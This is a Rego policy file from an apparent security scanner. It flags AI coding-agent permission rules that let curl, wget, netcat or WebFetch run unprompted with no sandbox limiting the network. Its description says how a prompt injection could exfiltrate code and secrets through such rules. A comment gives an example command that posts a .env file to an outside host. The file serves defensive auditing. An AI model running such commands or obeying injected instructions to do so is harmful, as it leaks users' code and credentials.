# METADATA
# title: A network client runs unasked, with nothing limiting where it connects
# description: |
#   A Claude Code allow rule lets the agent run curl, wget, netcat or another
#   network client with any arguments without a prompt (Bash(curl:*)), and
#   the Bash sandbox, whose proxy would hold its connections to the allowed
#   domains, is off; or an OpenCode bash rule does ("curl *": "allow"), which
#   has no sandbox at all, or a Qwen Code Bash rule, whose sandbox leaves the
#   network open, or a Cursor CLI Shell rule (Shell(curl)) without a Cursor
#   sandbox whose network policy denies by default. Any host is then one
#   unprompted command away: a prompt injection can post the code and every secret the agent reads to a server
#   of its choice, or fetch a payload, and nobody is asked. A rule for one URL
#   (Bash(curl http://localhost:3000/healthz)) is not reported, nor one an ask
#   or deny rule holds back. Bare Bash and Bash(*) grant every command, the
#   network clients among them. WebFetch allowed for every domain (WebFetch,
#   WebFetch(domain:*)) fetches any URL the model builds; the sandbox does
#   not confine that tool, so it is reported with the sandbox on as well.
# related_resources:
#   - ref: https://code.claude.com/docs/en/iam#tool-specific-permission-rules
#     description: Claude Code — Bash permission rules (prefix matching, and why they do not limit URLs)
#   - ref: https://code.claude.com/docs/en/sandboxing
#     description: Claude Code — sandboxing, network access through the sandbox proxy
# custom:
#   id: agent-egress-command-allowed
#   property: network
#   severity: medium
#   remediation: Remove the open-ended rule, or allow only the exact commands the work needs (Bash(curl http://localhost:3000/healthz)); turn on the Bash sandbox with sandbox.network.allowedDomains so whatever runs reaches only the listed hosts; use WebFetch with domain rules for documentation.
package rules.agent_egress_command_allowed

import data.lib.agent
import data.lib.sa

deny contains f if {
	some [i, j] in agent.net_allows
	a := agent.agents[i]
	a.tool in agent.shell_rule_agents
	not agent.in_workflow(a)
	not _sandbox_on(a)
	r := a.allow[j]
	prog := _client(r.value)
	not agent.held_back(a, sprintf("%s __sandbox_audit_probe__", [prog]))
	f := sa.finding(rego.metadata.chain(), r, sprintf("%s allows %q without a prompt and no sandbox limits its network: %s sends the code and any secret the agent reads to any host, unasked", [agent.label(a), r.value, prog]))
}

# Bare Bash, Bash(*), PowerShell: every command, curl among them.
deny contains f if {
	some a in agent.agents
	a.tool in agent.shell_rule_agents
	not agent.in_workflow(a)
	not _sandbox_on(a)
	some r in object.get(a, "allow", [])
	is_string(r.value)
	some t in {"Bash", "PowerShell", "bash", "Shell"}
	startswith(r.value, t)
	agent.shell_glob(r.value) == "*"
	not agent.held_back(a, "curl __sandbox_audit_probe__")
	f := sa.finding(rego.metadata.chain(), r, sprintf("%s allows %q without a prompt and no sandbox limits its network: every command runs unasked, curl to any host among them", [agent.label(a), r.value]))
}

# WebFetch for every domain: the tool fetches any URL it builds, with what
# it read in the query. Claude Code's sandbox does not confine it (it holds
# Bash), so the rule fires with the sandbox on too.
deny contains f if {
	some a in agent.agents
	a.tool == "claude-code"
	not agent.in_workflow(a)
	some r in object.get(a, "allow", [])
	r.value in {"WebFetch", "WebFetch(*)", "WebFetch(domain:*)"}
	not _fetch_held_back(a)
	f := sa.finding(rego.metadata.chain(), r, sprintf("%s allows %q without a prompt: the agent fetches any URL it builds, so the code and any secret it reads can leave in a request to a host of a prompt injection's choosing", [agent.label(a), r.value]))
}

_fetch_held_back(a) if {
	some b in agent.peers(a)
	some r in array.concat(object.get(b, "deny", []), object.get(b, "ask", []))
	r.value in {"WebFetch", "WebFetch(*)", "WebFetch(domain:*)"}
}

# _client: the rule names a network client alone, any arguments open; or
# with a wildcard among its arguments, which spans any text, spaces
# included (Bash(curl *vendor*) matches curl -d @.env https://x/vendor).
_client(rule) := prog if {
	agent.open_ended(rule)
	ws := agent.command_words(rule)
	count(ws) == 1
	prog := agent.base(ws[0])
	prog in agent.net_clients
} else := prog if {
	ws := agent.command_words(rule)
	count(ws) > 1
	prog := agent.base(ws[0])
	prog in agent.net_clients
	some w in array.slice(ws, 1, count(ws))
	contains(w, "*")
}

# Only Claude Code's sandbox holds connections to allowed domains, and
# Cursor's when its network policy denies by default; Qwen Code's (Gemini
# CLI's) leaves the network open by default.
_sandbox_on(a) if {
	a.tool == "claude-code"
	agent.effective(a, "sandbox_enabled").value == true
}

_sandbox_on(a) if {
	a.tool == "cursor"
	agent.effective(a, "sandbox_enabled").value == true
	agent.effective(a, "network_default").value == "deny"
}

